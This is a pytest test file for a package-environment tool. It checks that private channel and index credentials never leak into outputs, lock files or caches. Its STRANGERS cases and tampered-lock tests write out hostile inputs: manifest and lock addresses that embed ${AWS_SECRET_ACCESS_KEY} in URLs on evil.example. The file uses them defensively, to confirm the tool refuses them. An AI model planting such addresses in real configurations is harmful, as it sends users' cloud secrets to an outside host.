"""Test that private channels and indexes serve, and that nothing of their secrets is left anywhere."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from envgen.cli.options import services_for
from envgen.install.fetch import Sources, fetch_files
from envgen.lock.custom_metadata import DIGEST_PLACEHOLDER, with_digest
from envgen.project.project import locked_environment
from envgen.project.services import with_indexes
from tests.fakes.index_server import IndexServer
from tests.fakes.loopback import LoopbackChannel, guarded, sharded
from tests.fakes.projects import CHANNEL, Answer, Project
from tests.fakes.tiny_wheels import build_wheel

WORD, SIGN, PASSWORD = "ch4nnel-w0rd", "t0ken-of-mine", "1ndex/w0rd@"
SECRETS = (WORD, SIGN, PASSWORD, "1ndex", "ada-of-the-channel")


@pytest.fixture
def channel(living: Project) -> Iterator[LoopbackChannel]:
    """Serve a channel to those who have both the password and the token."""
    subdirs = {subdir: living.repodata(CHANNEL, subdir) for subdir in ("osx-arm64", "noarch")}
    files = {name: body for subdir, data in subdirs.items() for name, body in sharded(subdir, data).items()}
    expected = f"Basic {b64encode(f'ada-of-the-channel:{WORD}'.encode()).decode()}"

    def admits(handler: BaseHTTPRequestHandler) -> bool:
        return handler.headers.get("Authorization") == expected and handler.path.startswith(f"/t/{SIGN}/channel/")

    with guarded(files, admits) as server:
        yield server


@pytest.fixture
def private() -> Iterator[IndexServer]:
    """Serve an index to those who have the password."""
    with IndexServer(password=PASSWORD) as server:
        server.add(build_wheel("ours", "1.0", requires=["theirs", "six"]))
        yield server


@pytest.fixture
def demo(living: Project, channel: LoopbackChannel, private: IndexServer) -> Project:
    living.index.add(build_wheel("theirs", "1.0"))
    living.manifest("ours", "six", more=f"channels:\n  - {channel.url}\nindexes:\n  - {private.url.rstrip('/')}\n")
    living.monkeypatch.delenv("ENVGEN_MIRRORS")
    bind(living, channel, private)
    return living


def bind(project: Project, channel: LoopbackChannel, private: IndexServer, **others: str | None) -> None:
    """Say which secrets are for which host; `others` take the place of the right ones."""
    values = {"login": f"ada-of-the-channel:{WORD}", "sign": f"/t/{SIGN}", "index": f"user:{quote(PASSWORD)}"} | others
    channel_host, index_host = (urlsplit(each.url).netloc for each in (channel, private))
    hosts = {"login": channel_host, "sign": channel_host, "index": index_host}
    tokens = " ".join(f"{hosts[key]}={value}" for key, value in values.items() if value)
    project.monkeypatch.setenv("ENVGEN_TOKENS", tokens)


def left(project: Project, *answers: Answer) -> list[str]:
    """List where a secret is to be found: in outputs, and in the names and contents of all files."""
    found = [f"output of {number}" for number, each in enumerate(answers) if told(each.out + each.err)]
    for path in project.root.rglob("*"):
        if told(path.name) or (path.is_file() and told(path.read_bytes().decode("utf-8", "replace"))):
            found.append(str(path.relative_to(project.root)))
    return found


def told(text: str) -> bool:
    encoded = [b64encode(f"{user}:{word}".encode()).decode() for user in ("user", "ada") for word in SECRETS]
    return any(secret in text for secret in (*SECRETS, *encoded, "w0rd"))


def test_both_serve_and_leave_nothing(demo: Project, channel: LoopbackChannel, private: IndexServer) -> None:
    locked = demo.run("lock", "-v")
    assert locked.code == 0, locked.err
    again = demo.run("lock", "--upgrade", "--json")
    versions = {each["name"] for each in again.json["environments"][0]["platforms"]["osx-arm64"]["pypi"]}
    assert versions == {"ours", "theirs"}
    others = [demo.run(*words) for words in (["check", "--deep"], ["check", "--json"], ["tree", "demo"])]
    assert [answer.code for answer in others] == [0, 0, 0], others
    exports = [demo.run("export", "demo", "-f", name) for name in ("pixi", "pylock", "requirements", "environment")]
    assert [answer.code for answer in exports] == [0, 0, 0, 0]
    assert left(demo, locked, again, *others, *exports) == []


def test_files_hold_the_addresses_alone(demo: Project, private: IndexServer) -> None:
    assert demo.run("lock").code == 0
    index = private.url.rstrip("/")
    assert f"      - '--extra-index-url {index}'\n" in (demo.folder() / "environment.yml").read_text()
    lock = (demo.folder() / "conda-lock.yml").read_text()
    assert f"    indexes: {index}\n" in lock
    assert f"url: {private.root}/files/ours-1.0-py3-none-any.whl" in lock
    assert f"\n--extra-index-url {index}\n" in demo.run("export", "demo", "-f", "requirements").out


def test_the_index_comes_first(demo: Project, private: IndexServer) -> None:
    """A project of the same name on the public index, of a higher version, does not take its place."""
    demo.index.add(build_wheel("ours", "9.0"))
    assert demo.lock().versions["ours"] == "1.0"
    assert demo.index.count("/simple/ours") == 0


@pytest.mark.parametrize(
    ("what", "value", "said"),
    [
        pytest.param("index", "user:wr0ng-w0rd", "127.0.0.1", id="index, refused"),
        pytest.param("index", None, "ENVGEN_TOKENS", id="index, not bound"),
        pytest.param("login", "ada-of-the-channel:wr0ng-w0rd", "refuses to be read: 401", id="channel, refused"),
        pytest.param("sign", "/t/wr0ng-w0rd", "refuses to be read: 401", id="channel's token, refused"),
        pytest.param("login", None, "ENVGEN_TOKENS='HOST=TOKEN'", id="channel, not bound"),
    ],
)
def test_failures_say_nothing(
    demo: Project, channel: LoopbackChannel, private: IndexServer, what: str, value: str | None, said: str
) -> None:
    bind(demo, channel, private, **{what: value})
    answers = [demo.run("lock"), demo.run("lock", "--json"), demo.run("lock", "-v")]
    assert [answer.code for answer in answers] == [1, 1, 1]
    assert said in answers[0].err
    assert left(demo, *answers) == []


def test_servers_that_are_gone(demo: Project, channel: LoopbackChannel) -> None:
    demo.monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    path = demo.folder() / "envgen.yaml"
    for before, after in ((f":{channel.port}/", ":9/"), ("indexes:", "channels: [conda-forge]\nindexes:")):
        path.write_text(path.read_text().replace(before, after))
    answers = [demo.run("lock"), demo.run("lock", "--json")]
    assert [answer.code for answer in answers] == [1, 1]
    assert left(demo, *answers) == []


def test_an_address_on_the_command_line(demo: Project, channel: LoopbackChannel) -> None:
    address = channel.url.replace("//", f"//ada-of-the-channel:{WORD}@").replace("/channel", f"/t/{SIGN}/channel")
    locked = demo.run("lock", "--channel", address)
    assert locked.code == 0, locked.err
    shown = demo.run("lock", "--channel", address, "--json", "--upgrade")
    again = demo.run("lock", "--channel", address.replace(WORD, "wr0ng-w0rd"), "--upgrade")
    assert (shown.code, again.code) == (0, 1)
    assert left(demo, locked, shown, again) == []


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("https://me:secret@example.org/simple", "a password or token does not belong in a file that is committed"),
        ("https://me@example.org/simple", "a password or token does not belong"),
        ("https://${USER}@example.org/${TOKEN}/simple", "no environment variable is filled into an address"),
        ("ftp://example.org/simple", "not a package index"),
        ("example.org/simple", "not a package index"),
        ("https://example.org/simple?x=1", "not a package index"),
        ("[1]", "text is wanted"),
    ],
)
def test_indexes_that_are_refused(living: Project, url: str, said: str) -> None:
    living.manifest("six", more=f"indexes:\n  - {url}\n")
    answer = living.run("lock")
    assert answer.code == 1
    assert said in answer.err


def test_another_index_makes_a_lock_stale(living: Project, private: IndexServer) -> None:
    living.manifest("six")
    living.lock()
    living.manifest("six", more="indexes: [https://pypi.example.org/simple/]\n")
    (environment,) = living.json("check", code=1)["environments"]
    assert environment["reasons"] == [
        {
            "code": "INDEXES",
            "message": "locked with the indexes none, and the manifest says https://pypi.example.org/simple",
        }
    ]
    living.lock()
    assert living.run("check").code == 0


def test_explicit_files_keep_the_indexes(demo: Project) -> None:
    path = demo.folder() / "envgen.yaml"
    path.write_text(path.read_text() + "outputs: [explicit]\n")
    demo.lock()
    assert "--extra-index-url http://127.0.0.1:" in (demo.folder() / "requirements.osx-arm64.txt").read_text()
    assert demo.run("check").code == 0
    assert left(demo) == []


def test_where_caches_are(demo: Project) -> None:
    """The search above means something only if caches were written."""
    demo.run("lock")
    assert any(Path(demo.root / "cache").rglob("*"))
    assert any(Path(demo.root / "uv").rglob("*"))


def test_wheels_are_fetched_with_the_password(demo: Project, private: IndexServer) -> None:
    demo.lock()
    services = services_for(progress=lambda text: None)
    environment, lock = locked_environment(services.root, "demo")
    asked = with_indexes(services, environment.manifest.indexes)
    (ours, _) = Sources(asked, environment.manifest.channels).wheels(lock.platforms[0].pypi)
    (location,) = ours.locations()
    assert location.url == f"{private.root}/files/ours-1.0-py3-none-any.whl".replace("//", "//user:1ndex%2Fw0rd%40@")
    assert not told(repr(location))
    answer = demo.run("vendor", "demo", "--download", "--to", str(demo.root / "vendored"))
    assert "404" in answer.err  # the channel has an index alone
    assert left(demo, answer) == []


AWS = "AWS_SECRET_ACCESS_KEY"
STRANGERS = {
    "a channel's user": ("channels:\n  - https://${V}@evil.example/c\n", "evil.example=V"),
    "a channel's password": ("channels:\n  - https://me:${V}@evil.example/c\n", "evil.example=USER:V"),
    "a channel's token": ("channels:\n  - https://evil.example/t/${V}/c\n", "evil.example=/t/V"),
    "a channel's host": ("channels:\n  - https://${V}.evil.example/c\n", ""),
    "a channel's path": ("channels:\n  - https://evil.example/${V}\n", ""),
    "an index's user": ("indexes:\n  - https://${V}:x@evil.example/s\n", "evil.example=V:TOKEN"),
    "an index's path": ("indexes:\n  - https://evil.example/${V}/s\n", ""),
}


@pytest.mark.parametrize(("more", "line"), STRANGERS.values(), ids=STRANGERS)
@pytest.mark.parametrize("command", ["lock", "check", "create"])
def test_a_strangers_manifest_gets_no_variable(living: Project, more: str, line: str, command: str) -> None:
    living.manifest("six", more=more.replace("${V}", f"${{{AWS}}}"))
    living.monkeypatch.setenv(AWS, "ch4nnel-w0rd")
    answer = living.run(command, "demo")
    assert answer.code == 1
    said = answer.out + answer.err
    assert "envgen.yaml" in said
    assert "no environment variable is filled into an address" in said
    line = re.sub(r"\bV\b", AWS, line)
    assert (f"and set ENVGEN_TOKENS='{line}'" if line else "write the address out") in said
    assert not told(said)


def test_all_old_addresses_of_a_manifest_are_named_at_once(living: Project) -> None:
    more = (
        "channels:\n  - https://${A}@one.example/c\n  - https://two.example/t/${B}/c\nindexes: ['https://${C}@h/s']\n"
    )
    living.manifest("six", more=more)
    answer = living.run("lock")
    for host in ("one.example=A", "two.example=/t/B", "h=C"):
        assert f"ENVGEN_TOKENS='{host}'" in answer.err


@pytest.mark.parametrize("outputs", ["[conda-lock.yml]", "[explicit]"])
@pytest.mark.parametrize("place", ["indexes", "channel"])
@pytest.mark.parametrize(
    "words", [["check", "--deep"], ["create"], ["create", "--with", "conda"], ["export", "-f", "requirements"]]
)
def test_a_strangers_lock_gets_no_variable(demo: Project, outputs: str, place: str, words: list[str]) -> None:
    """Whoever edits a lock can make its digest right, too."""
    path = demo.folder() / "envgen.yaml"
    path.write_text(path.read_text() + f"outputs: {outputs}\n")
    demo.lock()
    demo.monkeypatch.setenv(AWS, "ch4nnel-w0rd")
    name = "conda-lock.yml" if "conda" in outputs else "explicit.osx-arm64.txt"
    text = (demo.folder() / name).read_text()
    target = r"indexes: http://" if place == "indexes" else r"(?:channels: |- url: )http://"
    text, count = re.subn(target, lambda match: f"{match[0]}${{{AWS}}}@", text, count=1)
    assert count == 1
    (demo.folder() / name).write_text(with_digest(re.sub(r"file_digest: sha256:\w+", DIGEST_PLACEHOLDER, text)))
    tools = demo.root / "tools"
    tools.mkdir()
    (tools / "conda").write_text("#!/bin/sh\nexit 0\n")
    (tools / "conda").chmod(0o755)
    demo.monkeypatch.setenv("PATH", str(tools), prepend=":")
    answer = demo.run(words[0], "demo", *words[1:])
    assert answer.code == 1, answer
    assert "an address with a secret or a variable in it" in answer.out + answer.err
    assert not told(answer.out + answer.err)


def test_an_old_lock_is_mended_and_keeps_its_versions(demo: Project, private: IndexServer) -> None:
    """Those of before named variables in `indexes`: nothing of theirs is filled in, and nothing need move."""
    demo.lock()
    file = demo.folder() / "conda-lock.yml"
    text = file.read_text().replace("    indexes: http://", "    indexes: http://${IDX_USER}:${IDX_WORD}@")
    file.write_text(with_digest(re.sub(r"file_digest: sha256:\w+", DIGEST_PLACEHOLDER, text)))
    private.add(build_wheel("ours", "2.0", requires=["theirs", "six"]))
    answer = demo.run("lock")
    assert answer.code == 0, answer.err
    assert "an address with a secret or a variable in it" in answer.err + answer.out
    assert "ours-1.0-py3" in file.read_text()
    assert "${" not in file.read_text()


SIGNED = "X-Amz-Signature=ch4nnel-w0rd&token=t0ken-of-mine"


@pytest.mark.parametrize("html_only", [False, True], ids=["json", "html"])
@pytest.mark.parametrize("outputs", ["[conda-lock.yml, environment.yml]", "[explicit]"])
def test_a_token_in_a_files_address_reaches_no_lock(living: Project, html_only: bool, outputs: str) -> None:
    """The index's page lists it anew, for `create`, which asks there; the lock has the address alone."""
    with IndexServer(html_only=html_only, query=SIGNED) as private:
        for version in ("1.0", "2.0"):
            private.add(build_wheel("ours", version), core_metadata=False)
        index = private.url.rstrip("/")
        living.manifest("ours<2", "six", more=f"indexes: [{index}]\noutputs: {outputs}\n")
        answers = [living.run("lock", "-v"), living.run("lock", "--upgrade", "--json"), living.run("check", "--deep")]
        assert [answer.code for answer in answers] == [0, 0, 0], answers
        assert not any("w0rd" in answer.out + answer.err for answer in answers)
        files = {path.name: path.read_text() for path in living.folder().iterdir()}
        assert not any("w0rd" in text or "token" in text for text in files.values())
        services = services_for(progress=lambda text: None)
        environment, lock = locked_environment(services.root, "demo")
        wheels = lock.platforms[0].pypi
        sources = Sources(with_indexes(services, environment.manifest.indexes), environment.manifest.channels)
        needs = sources.wheels(wheels)
        assert not told(repr([need.locations() for need in needs]))
        fetched = fetch_files(needs, sources.fetch_options(living.root / "store"))
    assert {path.name for path in fetched.paths.values()} == {"ours-1.0-py3-none-any.whl"}
    assert "explicit" in outputs or wheels[0].wheel.url == f"{private.root}/files/ours-1.0-py3-none-any.whl"


def test_look_alikes_get_nothing(living: Project, channel: LoopbackChannel) -> None:
    """The same machine by another name or port is another host."""
    living.monkeypatch.delenv("ENVGEN_MIRRORS")
    for tokens in (
        f"127.0.0.1:{channel.port + 1}",
        f"localhost:{channel.port}",
        "127.0.0.1",
        f"127.0.0.2:{channel.port}",
    ):
        living.monkeypatch.setenv("ENVGEN_TOKENS", f"{tokens}=ada-of-the-channel:{WORD} {tokens}=/t/{SIGN}")
        living.manifest("six", more=f"channels:\n  - {channel.url}\n")
        assert "refuses to be read: 401" in living.run("lock").err
    assert not any("authorization" in seen.headers or "/t/" in seen.path for seen in channel.seen)
